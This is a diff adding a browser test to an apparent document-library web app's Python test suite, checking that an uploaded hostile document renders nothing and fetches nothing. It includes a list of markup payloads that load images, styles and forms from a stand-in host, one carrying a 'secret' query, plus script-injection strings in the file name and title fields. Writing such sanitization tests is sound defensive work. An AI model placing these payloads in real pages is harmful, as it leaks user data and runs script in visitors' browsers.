@@ -15,6 +15,16 @@ pytestmark = [pytest.mark.browser, pytest.mark.model, pytest.mark.slow]
 
 WHY = "Why was Nettrix listed?"
 RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]
+EXFILTRATING = [
+    "![x](https://elsewhere.example/a.png?q=secret)",
+    "<img src=//elsewhere.example/b srcset='//elsewhere.example/c 2x'>",
+    "<video poster=https://elsewhere.example/d><source src=https://elsewhere.example/e></video>",
+    "<svg><image href=https://elsewhere.example/f></svg>",
+    "<div style='background:url(https://elsewhere.example/g)'>",
+    "<link rel=stylesheet href=https://elsewhere.example/h><meta http-equiv=refresh content='0;url=//elsewhere.example'>",
+    '```mermaid\ngraph TD; A["<img src=https://elsewhere.example/i>"]\n```',
+    "<base href=https://elsewhere.example/><form action=//elsewhere.example><input autofocus onfocus=alert(1)></form>",
+]
 Open = Callable[..., Any]
 
 
@@ -184,6 +194,35 @@ def test_hostile_words_run_nothing_and_fetch_nothing(opened: Open) -> None:
     page.wait_for_selector("#source .source")
     page.wait_for_timeout(300)
     assert page.locator("#source img, #card img, #conversation script, #conversation iframe").count() == 0
+
+
+def test_a_hostile_document_runs_nothing_and_fetches_nothing(opened: Open) -> None:
+    page = opened("?tab=library")
+    page.wait_for_selector("#documents table")
+    page.click("#add-documents button")
+    body = "\n\n".join([*HOSTILE, *EXFILTRATING, "The end of it."]).encode()
+    name = "<img src=x onerror=alert(1)>.txt"
+    page.set_input_files("#files input[type=file]", {"name": name, "mimeType": "text/plain", "buffer": body})
+    page.get_by_text("onerror").first.wait_for()
+    page.get_by_label("Title (of a single file)").fill("</td><svg/onload=alert(1)> marigold")
+    page.get_by_label("Publisher").fill(EXFILTRATING[0])
+    page.click("#add")
+    page.wait_for_selector("#results .result.added")
+    page.wait_for_selector("#documents td:has-text('Waits for the next index')")
+    page.fill("#find textarea", "marigold")
+    page.wait_for_selector("#documents p:has-text('1 of ')")
+    page.locator("#documents a").click()
+    page.wait_for_selector("#source .text p")
+    page.locator("#source .cite summary").click()
+    page.locator("#source h2").hover()
+    page.wait_for_timeout(300)
+    assert page.locator(".fn :is(img, script, iframe, svg, style, form, video, object, link)").count() == 0
+    identity = page.locator("#documents .document-id").inner_text()
+    page.click("#source button.close")
+    page.click("#remove-document button")
+    page.fill("#which textarea", identity)
+    page.click("#remove")
+    page.wait_for_selector("#removed li:has-text('Removed')")
 
 
 def test_a_phone_shows_it_all(opened: Open) -> None:
